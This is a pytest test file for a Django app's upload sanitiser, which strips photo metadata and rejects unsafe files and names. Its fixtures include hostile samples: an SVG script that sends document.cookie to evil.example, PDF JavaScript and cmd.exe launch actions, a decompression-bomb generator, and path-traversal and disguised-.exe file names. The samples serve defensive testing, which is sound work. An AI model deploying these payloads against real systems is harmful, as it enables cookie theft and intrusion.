import dataclasses
import hashlib
import io
import random
import struct
import time
import warnings
import zipfile
import zlib

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.utils import translation
from PIL import Image, ImageFile, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from tanggap.intake.uploads import (
    MAX_FILE_BYTES,
    MAX_FILES,
    MAX_PDF_PAGES,
    MAX_TOTAL_BYTES,
    CleanFile,
    clean_upload,
    clean_uploads,
)

# Rendering the lazy error messages needs settings; pytest-django may already provide them.
if not settings.configured:
    settings.configure(USE_I18N=False)

RED = (255, 0, 0)
BLUE = (0, 0, 255)
GREEN = (0, 255, 0)
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
PE = b"MZ\x90\x00\x03\x00\x00\x00" + bytes(52) + b"\x40\x00\x00\x00" + b"PE\x00\x00" + bytes(64)
SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('https://evil.example/?c='+document.cookie)</script></svg>"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"


@pytest.fixture(autouse=True)
def english_messages():
    """Assert on the English source text; the Indonesian catalogue is tested elsewhere."""
    with translation.override("en"):
        yield


def image_bytes(fmt="JPEG", size=(40, 20), mode="RGB", color=RED, **save):
    buffer = io.BytesIO()
    Image.new(mode, size, color).save(buffer, fmt, **save)
    return buffer.getvalue()


def two_colour_jpeg(**save):
    """A 40x20 image: left half red, right half blue."""
    image = Image.new("RGB", (40, 20), RED)
    image.paste(BLUE, (20, 0, 40, 20))
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", quality=95, **save)
    return buffer.getvalue()


def gps_exif(orientation=None):
    exif = Image.Exif()
    exif[0x010F] = "Murah Phone Co"  # Make
    if orientation:
        exif[0x0112] = orientation
    gps = exif.get_ifd(0x8825)
    gps[1] = "S"
    gps[2] = (6.0, 12.0, 30.0)
    gps[3] = "E"
    gps[4] = (106.0, 49.0, 12.0)
    gps[0x12] = "GPS-WGS84-HOME"  # GPSMapDatum, so the bytes carry a visible marker
    return exif


def noise_jpeg(size=(256, 256)):
    pixels = random.Random(0).randbytes(size[0] * size[1] * 3)
    buffer = io.BytesIO()
    Image.frombytes("RGB", size, pixels).save(buffer, "JPEG", quality=95)
    return buffer.getvalue()


def png_chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def bomb_png(width, height):
    """A real 1-bit PNG of width x height that compresses to a few kilobytes."""
    row = bytes(1 + (width + 7) // 8)
    compressor = zlib.compressobj(9)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", idat)
        + png_chunk(b"IEND", b"")
    )


def pdf_bytes(pages=1, tweak=None):
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if tweak:
        tweak(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def javascript(code="app.alert('hi')"):
    return DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(code)}
    )


def link_annotation(action):
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(0)] * 2 + [FloatObject(100)] * 2),
            NameObject("/A"): action,
        }
    )


def codes(error):
    return [e.code for e in error.error_list]


def refused(name, data):
    with pytest.raises(ValidationError) as caught:
        clean_upload(name, data)
    return caught.value


# --- kind detection -----------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("foto.jpg", ELF),
        ("foto.jpg", PE),
        ("peta.svg", SVG),
        ("peta.png", SVG),
        ("surat.pdf", HTML),
        ("foto.gif", image_bytes("GIF")),
        ("foto.bmp", image_bytes("BMP")),
        ("foto.jpg", b"\xff\xd8"),  # too short for the JPEG magic
    ],
)
def test_refuses_files_that_are_not_photos_or_pdfs(name, data):
    error = refused(name, data)
    assert codes(error) == ["file_type"]
    assert error.messages == [f"“{name}” is not a photo (JPEG, PNG, WebP) or a PDF."]


def test_refuses_a_zip_named_as_a_pdf():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("virus.exe", PE)
    assert codes(refused("dokumen.pdf", buffer.getvalue())) == ["file_type"]


def test_kind_comes_from_content_not_name():
    cleaned = clean_upload("foto.jpg", image_bytes("PNG"))
    assert cleaned.content_type == "image/png"
    assert cleaned.name == "foto.png"
    assert Image.open(io.BytesIO(cleaned.data)).format == "PNG"


# --- sizes ---------------------------------------------------------------------


def test_refuses_an_empty_file():
    error = refused("kosong.jpg", b"")
    assert codes(error) == ["empty_file"]
    assert error.messages == ["“kosong.jpg” is empty."]


def test_refuses_a_file_over_the_size_limit():
    error = refused("besar.jpg", b"\xff\xd8\xff" + bytes(MAX_FILE_BYTES))
    assert codes(error) == ["file_size"]
    assert error.messages == ["“besar.jpg” is larger than 10 MB."]


# --- images --------------------------------------------------------------------


def test_jpeg_loses_exif_gps_and_other_metadata():
    original = two_colour_jpeg(
        exif=gps_exif(),
        icc_profile=b"fake icc profile",
        xmp=b"<x:xmpmeta>GPS home</x:xmpmeta>",
        comment=b"taken at home",
    )
    assert b"Exif" in original and b"GPS-WGS84-HOME" in original
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)

    cleaned = clean_upload("jalan.jpg", original)

    assert cleaned.content_type == "image/jpeg"
    assert cleaned.name == "jalan.jpg"
    image = Image.open(io.BytesIO(cleaned.data))
    assert image.format == "JPEG"
    assert not image.getexif()
    for marker in (b"Exif", b"GPS", b"fake icc", b"xmpmeta", b"taken at home"):
        assert marker not in cleaned.data
    assert not {"exif", "icc_profile", "xmp", "comment"} & image.info.keys()


def test_jpeg_orientation_is_applied():
    # Orientation 6 means "rotate 90° clockwise to display": the left half ends on top.
    cleaned = clean_upload("miring.jpg", two_colour_jpeg(exif=gps_exif(orientation=6)))
    image = Image.open(io.BytesIO(cleaned.data)).convert("RGB")
    assert image.size == (20, 40)
    assert not image.getexif()
    top, bottom = image.getpixel((10, 5)), image.getpixel((10, 34))
    assert top[0] > 200 and top[2] < 60
    assert bottom[2] > 200 and bottom[0] < 60


@pytest.mark.filterwarnings("ignore:Corrupt EXIF data")
def test_jpeg_with_unreadable_exif_is_still_accepted():
    data = image_bytes("JPEG", exif=b"Exif\x00\x00MM\x00\x2a\xff\xff\xff\xff" + bytes(20))
    cleaned = clean_upload("foto.jpg", data)
    assert b"Exif" not in cleaned.data


def test_cmyk_jpeg_becomes_rgb():
    cleaned = clean_upload("scan.jpg", image_bytes("JPEG", mode="CMYK", color=(0, 0, 0, 0)))
    assert Image.open(io.BytesIO(cleaned.data)).mode == "RGB"


def test_png_loses_text_chunks_exif_and_icc():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "lokasi rumah -6.2,106.8")
    info.add_text("Author", "Budi", zip=True)
    original = image_bytes(
        "PNG", mode="RGBA", color=(*RED, 128), pnginfo=info, exif=gps_exif(), icc_profile=b"icc"
    )
    assert b"tEXt" in original and b"zTXt" in original and b"eXIf" in original

    cleaned = clean_upload("tangkapan.png", original)

    for chunk in (b"tEXt", b"zTXt", b"iTXt", b"eXIf", b"iCCP", b"lokasi"):
        assert chunk not in cleaned.data
    image = Image.open(io.BytesIO(cleaned.data))
    assert image.format == "PNG"
    assert image.mode == "RGBA"
    assert image.text == {}
    assert not image.getexif()
    assert image.getpixel((0, 0)) == (*RED, 128)


def test_palette_png_keeps_its_transparency():
    image = Image.new("P", (4, 4), 1)
    image.putpalette([0, 0, 0, *RED])
    buffer = io.BytesIO()
    image.save(buffer, "PNG", transparency=0)
    cleaned = Image.open(io.BytesIO(clean_upload("logo.png", buffer.getvalue()).data))
    assert cleaned.mode == "P"
    assert cleaned.info["transparency"] == 0


def test_webp_stays_webp_without_metadata():
    cleaned = clean_upload("foto.webp", image_bytes("WEBP", exif=gps_exif(), xmp=b"<x:xmpmeta/>"))
    assert cleaned.content_type == "image/webp"
    assert cleaned.name == "foto.webp"
    image = Image.open(io.BytesIO(cleaned.data))
    assert image.format == "WEBP"
    assert not image.getexif()
    assert b"EXIF" not in cleaned.data and b"XMP" not in cleaned.data


@pytest.mark.parametrize("fmt", ["PNG", "WEBP"])
def test_animated_image_keeps_only_the_first_frame(fmt):
    frames = [Image.new("RGB", (16, 16), colour) for colour in (RED, BLUE, GREEN)]
    buffer = io.BytesIO()
    frames[0].save(
        buffer, fmt, save_all=True, append_images=frames[1:], duration=100, lossless=True
    )
    assert Image.open(io.BytesIO(buffer.getvalue())).n_frames == 3

    cleaned = clean_upload("animasi", buffer.getvalue())

    image = Image.open(io.BytesIO(cleaned.data))
    assert getattr(image, "n_frames", 1) == 1
    assert b"acTL" not in cleaned.data and b"ANIM" not in cleaned.data
    red, green, blue = image.convert("RGB").getpixel((8, 8))
    assert red > 200 and blue < 60


@pytest.mark.parametrize(
    "size",
    [
        (8_000, 8_000),  # 64 MP: over our limit, under Pillow's own warning threshold
        (12_000, 12_000),  # 144 MP: Pillow warns
        (20_000, 20_000),  # 400 MP: Pillow raises DecompressionBombError itself
    ],
)
@pytest.mark.parametrize("warnings_are_errors", [False, True])
def test_decompression_bomb_is_refused_before_decoding(monkeypatch, size, warnings_are_errors):
    data = bomb_png(*size)
    assert len(data) < 200_000

    def must_not_decode(*args, **kwargs):
        raise AssertionError("the bomb was decoded")

    # Any decoding attempt turns into "image_broken" instead of the expected code.
    monkeypatch.setattr(ImageFile.ImageFile, "load", must_not_decode)
    monkeypatch.setattr(PngImagePlugin.PngImageFile, "verify", must_not_decode)
    with warnings.catch_warnings():
        warnings.simplefilter(
            "error" if warnings_are_errors else "ignore", Image.DecompressionBombWarning
        )
        started = time.perf_counter()
        error = refused("bom.png", data)
        elapsed = time.perf_counter() - started

    assert codes(error) == ["image_too_large"]
    assert error.messages == ["“bom.png” is too large an image (more than 40 megapixels)."]
    assert elapsed < 2


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("potong.jpg", noise_jpeg()[: len(noise_jpeg()) // 2]),
        ("rusak.jpg", b"\xff\xd8\xff" + b"not really a jpeg" * 20),
        ("rusak.png", image_bytes("PNG")[:-20] + b"\x00" * 20),
        ("rusak.webp", b"RIFF\x10\x00\x00\x00WEBPVP8 garbage!!"),
    ],
)
def test_refuses_broken_images(name, data):
    error = refused(name, data)
    assert codes(error) == ["image_broken"]
    assert error.messages == [f"“{name}” is damaged or not a complete image."]


def test_clean_file_fields_are_consistent_and_frozen():
    cleaned = clean_upload("foto.jpg", image_bytes("JPEG"))
    assert cleaned.size == len(cleaned.data)
    assert cleaned.sha256 == hashlib.sha256(cleaned.data).hexdigest()
    with pytest.raises(dataclasses.FrozenInstanceError):
        cleaned.name = "lain.jpg"


# --- PDFs ----------------------------------------------------------------------


def test_clean_pdf_is_kept_as_is():
    data = pdf_bytes()
    cleaned = clean_upload("Surat Lurah.PDF", data)
    assert cleaned == CleanFile(
        name="Surat Lurah.pdf",
        content_type="application/pdf",
        data=data,
        sha256=hashlib.sha256(data).hexdigest(),
        size=len(data),
    )


@pytest.mark.parametrize(("user", "owner"), [("rahasia", None), ("", "pemilik")])
def test_refuses_an_encrypted_pdf(user, owner):
    data = pdf_bytes(tweak=lambda writer: writer.encrypt(user, owner))
    error = refused("rahasia.pdf", data)
    assert codes(error) == ["pdf_encrypted"]
    assert "“rahasia.pdf” is protected with a password" in error.messages[0]


def open_action_javascript(writer):
    writer.root_object[NameObject("/OpenAction")] = javascript()


def document_javascript(writer):
    tree = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("init"), javascript()])}
    )
    writer.root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )


def annotation_launch(writer):
    launch = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject(
        [writer._add_object(link_annotation(launch))]
    )


def annotation_javascript(writer):
    writer.pages[0][NameObject("/Annots")] = ArrayObject([link_annotation(javascript())])


def page_open_javascript(writer):
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): javascript()})


def embedded_file(writer):
    writer.add_attachment("invoice.exe", PE)


@pytest.mark.parametrize(
    "tweak",
    [
        open_action_javascript,
        document_javascript,
        annotation_launch,
        annotation_javascript,
        page_open_javascript,
        embedded_file,
    ],
)
def test_refuses_a_pdf_with_active_content(tweak):
    error = refused("tagihan.pdf", pdf_bytes(tweak=tweak))
    assert codes(error) == ["pdf_active_content"]
    assert error.messages[0].startswith("“tagihan.pdf” contains scripts or embedded files")


def test_refuses_javascript_hidden_behind_an_escaped_name():
    data = pdf_bytes(tweak=open_action_javascript)
    assert data.count(b"/JavaScript") == 1
    # "#61" is "a": viewers read /J#61vaScript as /JavaScript. Offsets shift, so the
    # xref table has to be rebuilt too, as a lenient reader does.
    data = data.replace(b"/JavaScript", b"/J#61vaScript")
    assert codes(refused("tagihan.pdf", data)) == ["pdf_active_content"]


def test_pdf_page_limit():
    assert clean_upload("panjang.pdf", pdf_bytes(pages=MAX_PDF_PAGES)).size > 0
    error = refused("panjang.pdf", pdf_bytes(pages=MAX_PDF_PAGES + 1))
    assert codes(error) == ["pdf_too_many_pages"]
    assert error.messages == ["“panjang.pdf” has more than 50 pages."]


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\nthis is not really a pdf\n%%EOF\n",
        b"%PDF-",
        pdf_bytes()[:40],
    ],
)
def test_refuses_a_broken_pdf(data):
    error = refused("rusak.pdf", data)
    assert codes(error) == ["pdf_broken"]
    assert error.messages == ["“rusak.pdf” is damaged or could not be read as a PDF."]


# --- names ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd.jpg", "passwd.jpg"),
        ("C:\\Users\\Budi\\Foto Jalan.JPG", "Foto Jalan.jpg"),
        ("foto.png", "foto.jpg"),
        ("foto\u202egpj.exe", "fotogpj.jpg"),  # right-to-left override disguising .exe
        ("laporan\x00\r\n.jpeg", "laporan.jpg"),
        ("surat<script>.jpg", "surat_script_.jpg"),
        ("Jl. Merdeka No. 5", "Jl. Merdeka No. 5.jpg"),
        ("", "attachment.jpg"),
        (".jpg", "attachment.jpg"),
        ("dir/", "attachment.jpg"),
        ("a" * 300 + ".jpg", "a" * 96 + ".jpg"),
    ],
)
def test_file_name_is_made_safe(name, expected):
    assert clean_upload(name, image_bytes("JPEG")).name == expected


# --- batches -------------------------------------------------------------------


def test_clean_uploads_returns_files_in_order():
    jpeg, pdf = image_bytes("JPEG"), pdf_bytes()
    cleaned = clean_uploads([("a.jpg", jpeg), ("b.pdf", pdf)])
    assert [(c.name, c.content_type) for c in cleaned] == [
        ("a.jpg", "image/jpeg"),
        ("b.pdf", "application/pdf"),
    ]
    assert clean_uploads([]) == []


def test_refuses_too_many_files():
    files = [(f"foto{i}.jpg", image_bytes("JPEG")) for i in range(MAX_FILES + 1)]
    with pytest.raises(ValidationError) as caught:
        clean_uploads(files)
    assert codes(caught.value) == ["too_many_files"]
    assert caught.value.messages == ["At most 5 files can be attached."]


def test_refuses_too_many_bytes_in_total():
    chunk = b"\xff\xd8\xff" + bytes(MAX_TOTAL_BYTES // 3)
    assert len(chunk) <= MAX_FILE_BYTES
    with pytest.raises(ValidationError) as caught:
        clean_uploads([("a.jpg", chunk), ("b.jpg", chunk), ("c.jpg", chunk)])
    assert codes(caught.value) == ["total_size"]
    assert caught.value.messages == ["The attachments together are larger than 25 MB."]


def test_mixed_batch_reports_every_bad_file_in_one_error():
    files = [
        ("jalan.jpg", image_bytes("JPEG")),
        ("foto.jpg", ELF),
        ("peta.png", SVG),
        ("surat.pdf", pdf_bytes()),
        ("kosong.pdf", b""),
    ]
    with pytest.raises(ValidationError) as caught:
        clean_uploads(files)
    assert codes(caught.value) == ["file_type", "file_type", "empty_file"]
    assert caught.value.messages == [
        "“foto.jpg” is not a photo (JPEG, PNG, WebP) or a PDF.",
        "“peta.png” is not a photo (JPEG, PNG, WebP) or a PDF.",
        "“kosong.pdf” is empty.",
    ]


def test_error_names_the_file_without_its_path_or_control_characters():
    error = refused("C:\\fakepath\\virus\u202egpj.exe", ELF)
    assert error.messages == ["“virusgpj.exe” is not a photo (JPEG, PNG, WebP) or a PDF."]


def test_truncated_image_is_refused_even_after_weasyprint_relaxed_pillow():
    import weasyprint  # noqa: F401 - its import sets ImageFile.LOAD_TRUNCATED_IMAGES = True
    from PIL import ImageFile

    assert ImageFile.LOAD_TRUNCATED_IMAGES is True
    data = noise_jpeg()

    error = refused("potong.jpg", data[: len(data) // 2])

    assert error.code == "image_broken"
